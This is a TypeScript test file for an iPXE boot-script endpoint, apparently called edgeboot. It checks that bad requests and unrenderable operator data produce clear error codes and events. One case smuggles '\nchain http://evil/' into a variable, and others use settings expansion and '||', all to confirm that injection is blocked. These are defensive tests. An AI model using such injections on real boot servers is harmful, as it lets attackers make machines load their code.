// Bad input and operator data that cannot be rendered: clear codes, iPXE-readable bodies, a render-failed event.
import { describe, expect, it } from "vitest";
import { call, eventsOf, freshStoragePerTest, seedHost, seedImage, seedProfile, seedSite } from "./seed.ts";

freshStoragePerTest();

const MAC = "52:54:00:12:34:56";

async function lab(profile: Record<string, unknown>, host: Record<string, unknown> = {}) {
  const site = await seedSite({ slug: "lab" });
  await seedImage({ name: "debian" });
  const p = await seedProfile({ name: "p1", image: "debian", ...profile });
  await seedHost({ id: "host-1", siteId: site.id, hostname: "node-1", mac: MAC, profileId: p.id, ...host });
  return site;
}

async function expectRenderFailed(siteId: string, message: RegExp, code: "render_failed" | "not_bootable" = "render_failed") {
  const res = await call(`/boot/lab/ipxe?mac=${MAC}`);
  expect(res.status).toBe(code === "render_failed" ? 500 : 409);
  expect(res.headers.get("edgeboot-error")).toBe(code);
  expect(res.body).toMatch(new RegExp(`^#!ipxe\\necho edgeboot: ${code}: `));
  expect(res.body).toMatch(message);
  const events = await eventsOf(siteId);
  expect(events.map((e) => e.phase)).toEqual(["render-failed"]);
  expect(events[0]!.detail).toMatchObject({ code });
  expect(events[0]!.detail.message).toMatch(message);
  return res;
}
const expectNotBootable = (siteId: string, message: RegExp) => expectRenderFailed(siteId, message, "not_bootable");

describe("GET /boot/:site/ipxe: bad requests", () => {
  it("unknown site → 404", async () => {
    const res = await call(`/boot/nope/ipxe?mac=${MAC}`);
    expect(res.status).toBe(404);
    expect(res.body).toBe("#!ipxe\necho edgeboot: not_found: site not found\nexit 1\n");
    expect((await call(`/boot/NOT_A_SLUG!/ipxe?mac=${MAC}`)).status).toBe(404);
  });

  it("no identity, a bad MAC, UUID or arch → 400 invalid_input naming the field, on the iPXE console too", async () => {
    await seedSite({ slug: "lab" });
    const cases: [string, string][] = [
      ["", "mac"],
      ["mac=&uuid=&serial=", "mac"],
      ["mac=zz:54:00:12:34:56", "mac"],
      ["mac=52:54:00:12:34:56&uuid=nope", "uuid"],
      ["mac=52:54:00:12:34:56&arch=x86%2064", "arch"],
      ["mac=52:54:00:12:34:56&platform=EFI!", "platform"],
    ];
    for (const [q, field] of cases) {
      const res = await call(`/boot/lab/ipxe?${q}`);
      expect(res.status, q).toBe(400);
      expect(res.headers.get("edgeboot-error")).toBe("invalid_input");
      expect(res.body, q).toMatch(new RegExp(`^#!ipxe\\necho edgeboot: invalid_input: ${field}: `));
    }
  });
});

describe("GET /boot/:site/ipxe: render failures are 500 render_failed (409 not_bootable) with an event, never a broken script", () => {
  it("unknown template variable", async () => {
    const site = await lab({ cmdline: "console=ttyS0 ntp={{ var.ntp }}" });
    await expectRenderFailed(site.id, /variable "var.ntp" is not set/);
  });

  it("a secret in the kernel command line", async () => {
    const site = await lab({ cmdline: "token={{ secret.JOIN }}" });
    await expectRenderFailed(site.id, /secrets cannot be used in the kernel command line/);
  });

  it("a variable value that would inject iPXE commands or settings", async () => {
    const site = await lab({ cmdline: "a={{ var.x }}" }, { vars: { x: "1\nchain http://evil/" } });
    await expectRenderFailed(site.id, /control characters/);
  });

  it("a variable that expands iPXE settings", async () => {
    const site = await lab({ cmdline: "a={{ var.x }}" }, { vars: { x: "${net0/mac}" } });
    await expectRenderFailed(site.id, /which iPXE would expand/);
  });

  it("a command line token that iPXE reads as syntax", async () => {
    const site = await lab({ cmdline: "quiet || reboot" });
    await expectRenderFailed(site.id, /token "\|\|" is iPXE syntax/);
  });

  it("profile without an image, image missing for the arch, a menu naming a missing profile", async () => {
    const site = await lab({ image: null });
    await expectNotBootable(site.id, /profile "p1" has no image to boot/);
  });

  it("no image build for the requested architecture", async () => {
    const site = await lab({}, { arch: "riscv64" });
    await expectNotBootable(site.id, /image "debian" has no build for riscv64/);
  });

  it("a menu item naming a profile that does not exist", async () => {
    const site = await lab({ menu: { items: [{ label: "Gone", target: "gone" }] } });
    await expectNotBootable(site.id, /profile "gone" does not exist/);
  });

  it("an intent naming a profile that does not exist", async () => {
    const site = await lab({}, { intent: { target: "vanished", mode: "always" } });
    await expectNotBootable(site.id, /profile "vanished" does not exist/);
  });

  it("a command line longer than Linux keeps", async () => {
    const site = await lab({ cmdline: "x".repeat(2100) });
    await expectRenderFailed(site.id, /Linux keeps only/);
  });
});
